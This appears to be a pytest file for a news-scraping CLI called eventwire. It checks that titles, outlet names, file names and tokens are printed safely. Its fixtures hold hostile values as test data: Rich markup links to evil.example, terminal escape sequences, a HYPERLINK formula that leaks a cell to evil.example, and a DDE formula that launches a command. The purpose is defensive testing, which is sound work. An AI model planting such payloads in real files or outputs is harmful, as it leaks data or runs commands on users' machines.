"""Scraped text is printed as text: titles, outlets, file names and tokens are never rich markup, never
terminal control codes, never a forged line; CSV cells a spreadsheet would run are neutralised; and a
full disk behind stdout or an export file says what failed."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from eventwire.cli import app
from eventwire.model import Article
from eventwire.pipeline.batch import Batch
from eventwire.store import DuckDBStore

ROOT = Path(__file__).resolve().parents[2]
runner = CliRunner()
MARKUP_TITLE = "Talks [/] end [link=https://evil.example]click[/link] [bold red]now"
ESCAPES = "Outlet \x1b[2J\x1b]8;;https://evil.example\x07x\x1b]8;;\x07 \u202eexe.txt"
FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"open")'
TEXT = "Officials in the capital said on Monday that talks with the rebels would resume next week. " * 4


def no_control(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text


@pytest.fixture
def odd_store(tmp_path) -> Path:
    """A store written directly (as an older eventwire or another writer might have): markup, escape
    sequences and formulas in titles and outlets."""
    rows = [(MARKUP_TITLE, "[/]Wire[link=x]"), (f"{FORMULA}", ESCAPES), ("-2+3 @SUM(A1:A9)", "+cmd|' /C calc'!A0")]
    articles = [Article(id=Article.make_id(TEXT + str(i)), text=TEXT + str(i), title=title, source=source,
                        url="https://news.example/a", published="2024-05-06", language="en", raw_ref=f"in/{i}.txt")
                for i, (title, source) in enumerate(rows)]
    db = tmp_path / "odd.duckdb"
    with DuckDBStore(db) as store:
        store.write_batch(Batch(articles))
    return db


def test_listings_show_markup_and_escapes_as_text(odd_store):
    result = runner.invoke(app, ["articles", "--db", str(odd_store)], catch_exceptions=False)
    assert result.exit_code == 0
    no_control(result.output)
    assert "[/]" in result.output and "\\x1b" in result.output


def test_show_prints_a_title_with_markup(odd_store):
    with DuckDBStore(odd_store, read_only=True) as store:
        ids = [r["id"] for r in store.query_articles()]
    for article_id in ids:
        result = runner.invoke(app, ["show", article_id, "--db", str(odd_store)], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        no_control(result.output)
    first = runner.invoke(app, ["show", ids[0], "--db", str(odd_store)]).output
    assert "Talks [/] end [link=https://evil.example]click[/link] [bold red]now" in first


def test_json_output_escapes_what_a_terminal_acts_on_and_stays_the_same_json(odd_store):
    result = runner.invoke(app, ["articles", "--db", str(odd_store), "--json"], catch_exceptions=False)
    no_control(result.output)
    assert ESCAPES in [r["source"] for r in json.loads(result.output)]


def test_csv_and_tsv_listings_neutralise_formulas(odd_store):
    for flag, delimiter in (("--csv", ","), ("--tsv", "\t")):
        result = runner.invoke(app, ["articles", "--db", str(odd_store), flag], catch_exceptions=False)
        rows = list(csv.DictReader(io.StringIO(result.output), delimiter=delimiter))
        titles = {r["title"] for r in rows}
        sources = {r["source"] for r in rows}
        assert "'" + FORMULA in titles and "'-2+3 @SUM(A1:A9)" in titles
        assert "'+cmd|' /C calc'!A0" in sources
        assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_ingest_summary_and_skipped_lines_show_names_as_text(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "bad\nskipped forged.txt").write_text("")  # a newline in a file name
    (folder / "[link=file:evil.example]x[\\link] [b].txt").write_text("")
    (folder / "esc\x1b[31m.txt").write_text("")
    (folder / "good.jsonl").write_text(json.dumps({"text": TEXT, "title": MARKUP_TITLE, "source": "[/]Wire [bold]"}))
    result = runner.invoke(app, ["ingest", str(folder), "--db", str(tmp_path / "s.duckdb"), "--workers", "1",
                                 "--date", "2024-05-06"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    no_control(result.output)
    skipped = [line for line in result.output.splitlines() if line.startswith("skipped")]
    assert len(skipped) == 3  # one per bad file: the newline did not forge a fourth
    assert any("bad\\x0askipped forged.txt" in line for line in skipped)
    assert any("[link=file:evil.example]x[\\link] [b].txt" in line for line in skipped)
    assert "[/]Wire [bold]" in result.output  # the outlet, per source


def test_serve_prints_a_token_with_markup(tmp_path, odd_store):
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    proc = subprocess.Popen([sys.executable, "-m", "eventwire.cli", "serve", "--db", str(odd_store), "--port", str(port),
                             "--token", "ab[/x]cd\x1b[31m"], stderr=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        line = proc.stderr.readline()
    finally:
        proc.terminate()
        proc.wait(timeout=30)
    assert "eventwire serving" in line and "ab[/x]cd\\x1b[31m" in line, line


def run_cli(*args: str, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "eventwire.cli", *args], stdout=stdout, stderr=subprocess.PIPE,
                          text=True, cwd=ROOT, timeout=300)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_a_full_disk_behind_stdout_or_an_export_says_so(odd_store, located_store, tmp_path):
    with open("/dev/full", "w") as full:
        listing = run_cli("articles", "--db", str(odd_store), "--csv", stdout=full)
        exported = run_cli("export", "--format", "csv", "--db", str(located_store), stdout=full)
    assert listing.returncode == 1 and "E612" in listing.stderr and "standard output" in listing.stderr
    assert exported.returncode == 1 and "E612" in exported.stderr
    to_file = run_cli("export", "--format", "acled", "--db", str(located_store), "--out", "/dev/full")
    assert to_file.returncode == 1 and "E611" in to_file.stderr and "/dev/full" in to_file.stderr
    for proc in (listing, exported, to_file):
        assert "E402" not in proc.stderr and "the store" not in proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
def test_code_output_to_a_full_disk(tmp_path):
    (tmp_path / "in.jsonl").write_text(json.dumps({"id": 1, "text": "Talks resumed in Doha."}) + "\n")
    proc = run_cli("code", str(tmp_path / "in.jsonl"), "--out", "/dev/full")
    assert proc.returncode == 1 and "E613" in proc.stderr and "/dev/full" in proc.stderr
    assert "Traceback" not in proc.stderr
